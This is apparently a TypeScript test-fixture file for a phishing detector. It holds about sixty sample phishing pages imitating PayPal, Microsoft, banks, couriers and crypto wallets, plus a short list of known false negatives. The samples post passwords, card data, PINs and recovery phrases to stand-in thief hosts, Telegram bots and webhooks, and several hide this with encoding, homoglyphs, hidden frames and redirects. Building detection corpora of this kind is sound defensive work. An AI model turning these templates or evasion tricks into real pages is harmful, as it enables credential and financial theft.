// Corpus of phishing pages, as produced by kits, which must be refused.

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
const hex = (text: string): string =>
  [...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const codes = (text: string): string => [...text].map((sign) => sign.charCodeAt(0)).join(',')
const entities = (text: string): string =>
  [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('')
const reversed = (text: string): string => [...text].reverse().join('')

const thief = 'https://collect.thief.example/post.php'
const fields = '<input name="email" type="email"><input name="pass" type="password">'
const netflix = `<title>Netflix</title><form action="${thief}">${fields}</form>`

export const phishing: Readonly<Record<string, string>> = {
  'a copy of PayPal': `<title>PayPal: Log In</title><img src="https://www.paypalobjects.com/images/shared/paypal-logo-129x32.svg" alt="PayPal"><form action="${thief}" method="post">${fields}<button>Log In</button></form>`,
  'one that posts to itself': `<title>Log in to your PayPal account</title><form action="next.php" method="post">${fields}</form>`,
  'Microsoft, word by word': `<title>Sign in to your account</title><img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft"><div>Sign in</div><form action="go.php"><input placeholder="Email, phone, or Skype"><input type="password" placeholder="Password"></form><p>No account? Create one!</p><p>Can’t access your account?</p>`,
  'Office 365 with the address filled in': `<title>Office 365 – Sign in</title><script>var e=location.hash.slice(1);document.getElementById('mail').value=e</script><form><input id="mail"><input type="password" id="pw"></form><script>document.forms[0].onsubmit=function(){fetch("${thief}",{method:"POST",body:e+pw.value});location.href="https://login.microsoftonline.com"}</script>`,
  'Google, word by word': `<title>Sign in – Google Accounts</title><h1>Sign in</h1><p>Use your Google Account</p><form>${fields}</form><p>Not your computer? Use a private browsing window.</p>`,
  'Apple, because of a lock': `<title>Apple ID</title><link rel="icon" href="https://www.apple.com/favicon.ico"><h1>Your Apple ID has been locked</h1><p>Verify your identity within 24 hours.</p><form action="${thief}"><input name="id"><input type="password"></form>`,
  'Amazon, because of a payment': `<title>Amazon Sign-In</title><form action="${thief}">${fields}<input name="cardnumber" placeholder="Card number"><input name="cvv"></form><p>Update your payment method to avoid suspension.</p>`,
  'Netflix, written in entities': `<title>${entities('Netflix')}</title><form action="${thief}"><input type="&#112;assword"></form>`,
  'Netflix in capitals and odd markup': `<TITLE\n>NETFLIX</TITLE><FORM ACTION=${thief}><INPUT TYPE = 'PassWord'></FORM>`,
  'a carrier that wants a fee': `<title>DHL | Parcel on hold</title><h1>DHL</h1><p>Your parcel could not be delivered. Pay the customs fee of 1.99.</p><form action="${thief}"><input autocomplete="cc-number"><input autocomplete="cc-csc"></form>`,
  'a carrier in German': `<title>DHL Sendungsverfolgung</title><p>Ihr Paket wartet. Zollgebühr 2,99 €</p><form action="${thief}"><input placeholder="Kartennummer"><input placeholder="CVV"></form>`,
  'a post office by text message': `<title>USPS</title><h1>United States Postal Service</h1><p>The delivery is on hold. Redelivery fee: 0.30</p><form action="/pay.php"><input name="card_number"><input name="cvv"><input name="otp" placeholder="SMS code"></form>`,
  'a bank that asks for everything': `<title>Wells Fargo – Sign On</title><h1>Verify your Wells Fargo account</h1><form action="verify.php"><input name="user"><input type="password"><input name="ssn" placeholder="Social security number"><input name="pin" placeholder="ATM PIN"></form>`,
  'a savings bank': `<title>Sparkasse: Anmelden</title><p>Ihr Konto wurde gesperrt. Bestätigen Sie Ihre Daten.</p><form action="${thief}"><input name="konto"><input name="pin" placeholder="PIN"><input name="tan" placeholder="TAN"></form>`,
  'a French bank': `<title>Crédit Agricole – Connexion</title><form action="${thief}"><input placeholder="Identifiant"><input placeholder="Mot de passe"></form>`,
  'a wallet that must be validated': `<title>MetaMask</title><h1>Validate your wallet</h1><form action="${thief}"><textarea placeholder="Enter your 12-word recovery phrase"></textarea></form>`,
  'a wallet of no name': `<title>Wallet Connect</title><h1>Synchronize your wallet</h1><form action="https://formsubmit.co/thief@example.org" method="post"><label>Secret phrase<textarea name="a"></textarea></label></form>`,
  'twelve fields': `<title>Trust Wallet | Restore</title><form action="x.php">${Array.from({ length: 12 }, (_, n) => `<input name="w${n}" placeholder="Recovery word ${n + 1}">`).join('')}<p>Secret recovery phrase</p><input name="phrase" aria-label="Secret recovery phrase"></form>`,
  'letters of another alphabet': `<title>Раураl</title><h1>Log in</h1><form action="login.php">${fields}</form>`,
  'invisible letters': `<title>Pay\u200bPal</title><h1>Pay\u200bPal security</h1><form action="a.php">${fields}</form>`,
  'digits for letters': `<title>Micr0s0ft</title><h1>rnicrosoft account</h1><form action="a.php">${fields}</form>`,
  'a capital for a small letter': `<title>PayPaI: your account</title><h1>PayPaI</h1><form action="a.php">${fields}</form>`,
  'a script that is data': `<script src="data:text/javascript;base64,${base64(`document.write(${JSON.stringify(netflix)})`)}"></script>`,
  'a frame over everything, by class': `<title>Microsoft 365 – Sign in</title><style>.f{position:fixed;inset:0;width:100vw;height:100vh;border:0}</style><iframe class="f" src="https://thief.example/o"></iframe>`,
  'dots under letters': `<title>Nẹtflịx</title><form action="a.php">${fields}</form>`,
  'letter by letter': `<title>Member area</title><h1>P a y P a l</h1><form action="${thief}">${fields}</form>`,
  'letters in boxes': `<title>Secure</title><h1><span>P</span><span>a</span><i></i><span>y</span><!-- x --><span>Pal</span></h1><form action="${thief}">${fields}</form><p>© 2026 P<b></b>ayPal, Inc.</p>`,
  'letters with rubbish between': `<h1>Pay<span style="display:none">qqq</span>Pal</h1><form action="${thief}">${fields}</form>`,
  'a password for a mailbox': `<title>Webmail</title><p>Your mailbox is full.</p><form action="https://formspree.io/f/thief" method="POST">${fields}</form>`,
  'a password by mail': `<title>Shared document</title><form action="mailto:thief@example.org">${fields}</form>`,
  'a password for a bot': `<title>Document</title><form id="f">${fields}</form><script>f.onsubmit=e=>{e.preventDefault();fetch("https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text="+f.pass.value)}</script>`,
  'a password for a bot, in pieces': `<form id="f">${fields}</form><script>const t=atob("${base64('https://api.telegram.org/bot1:A/sendMessage')}");f.onsubmit=()=>{new Image().src=t+'?text='+f.pass.value}</script>`,
  'a password for a hook': `<title>Invoice</title><input id="u"><input id="p" type="password"><script>const x=new XMLHttpRequest();x.open("POST","https://discord.com/api/webhooks/1/a");x.send(p.value)</script>`,
  'a button with another aim': `<form action="/ok">${fields}<button formaction="https://webhook.site/1">Open</button></form>`,
  'a field that belongs to a form elsewhere': `<form id="a" action="https://getform.io/f/1"></form><p>Password</p><input form="a" type="password">`,
  'a form within a form': `<form action="https://formspree.io/f/1"><form action="/ok">${fields}</form>`,
  'a form in a template before it': `<template><form action="/ok"></template><form action="https://formspree.io/f/1">${fields}</form>`,
  'a base that moves everything': `<base href="https://formspree.io/"><title>Login</title><form action="f/abc">${fields}</form>`,
  'a masked text field': `<title>OneDrive – Sign in</title><style>.p{-webkit-text-security:disc}</style><form action="x.php"><input name="e"><input class="p" name="x"></form>`,
  'a field made by a script': `<title>Dropbox – Log in</title><div id="r"></div><script>var i=document.createElement('input');i.setAttribute('type','password');r.append(i)</script>`,
  'a field without a form': `<title>Instagram • Log in</title><div contenteditable aria-label="Password"></div><button onclick="navigator.sendBeacon('${thief}',x)">Log in</button>`,
  'markup in a string': `<div id="r"></div><script>r.innerHTML='<h1>Log in to Facebook</h1><form action="${thief}"><input type=\\"password\\"></form>'</script>`,
  'a component that says Netflix': `<div id="r"></div><script>document.title="Netflix";render(e("h1",{children:"Sign In"}),e("input",{type:"password"}));fetch("${thief}")</script>`,
  'written by unescape': `<script>document.write(unescape("${percent(netflix)}"))</script>`,
  'written by atob': `<script>document.write(atob("${base64(netflix)}"))</script>`,
  'written by codes': `<script>document.write(String.fromCharCode(${codes(netflix)}))</script>`,
  'written by escapes': `<script>document["write"]("${hex(netflix)}")</script>`,
  'wrapped twice': `<script>eval(atob("${base64(`document.write(unescape("${percent(netflix)}"))`)}"))</script>`,
  'in a frame of its own': `<title>Document</title><iframe srcdoc="${netflix.replaceAll('"', '&quot;')}"></iframe>`,
  'in a data frame': `<iframe src="data:text/html;base64,${base64(netflix)}"></iframe>`,
  'in a picture that is a page': `<svg><title><form action="${thief}"><input type="password"></form></title></svg><h1>Log in to PayPal</h1>`,
  'replaced by data': `<meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(netflix)}">`,
  'a hidden way on': `<title>Loading…</title><script>setTimeout(function(){window.location.href=atob("${base64('https://thief.example/login')}")},500)</script>`,
  'a hidden way on, backwards': `<script>location.replace("${reversed('https://thief.example/a')}".split("").reverse().join(""))</script>`,
  'a hidden way on, in escapes': `<script>var a="${hex('https://thief.example/')}";window["location"]["href"]=a</script>`,
  'a frame over everything': `<title>Microsoft 365 – Sign in</title><iframe src="https://thief.example/o" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>`,
  'a way on in somebody’s name': `<title>DocuSign</title><h1>You have received a secure document</h1><meta http-equiv="refresh" content="3;url=https://thief.example/doc">`,
  'in two bytes a letter': `\ufeff${netflix}`,
  'one that blocks looking': `<title>Coinbase</title><body oncontextmenu="return false"><script>document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.keyCode==85))return false};document.addEventListener("contextmenu",e=>e.preventDefault())</script><form action="${thief}">${fields}</form>`,
  'deep within pictures': `${'<svg>'.repeat(6_000)}<form><input type=password>`,
}

/** Known false negatives, which only a person can recognise for now. */
export const falseNegatives: Readonly<Record<string, string>> = {
  'no name, and a server of one’s own': `<title>Webmail login</title><h1>Webmail</h1><form action="${thief}">${fields}</form>`,
  'nothing but a link': `<title>SharePoint</title><h1>Anna shared a file with you</h1><a href="https://thief.example">View document</a>`,
  'the logo alone, as data': `<title>Sign in</title><img src="data:image/png;base64,iVBORw0KGgo="><form action="${thief}">${fields}</form>`,
  'everything in a script from elsewhere': `<title>Loading</title><script src="https://thief.example/kit.js"></script>`,
}
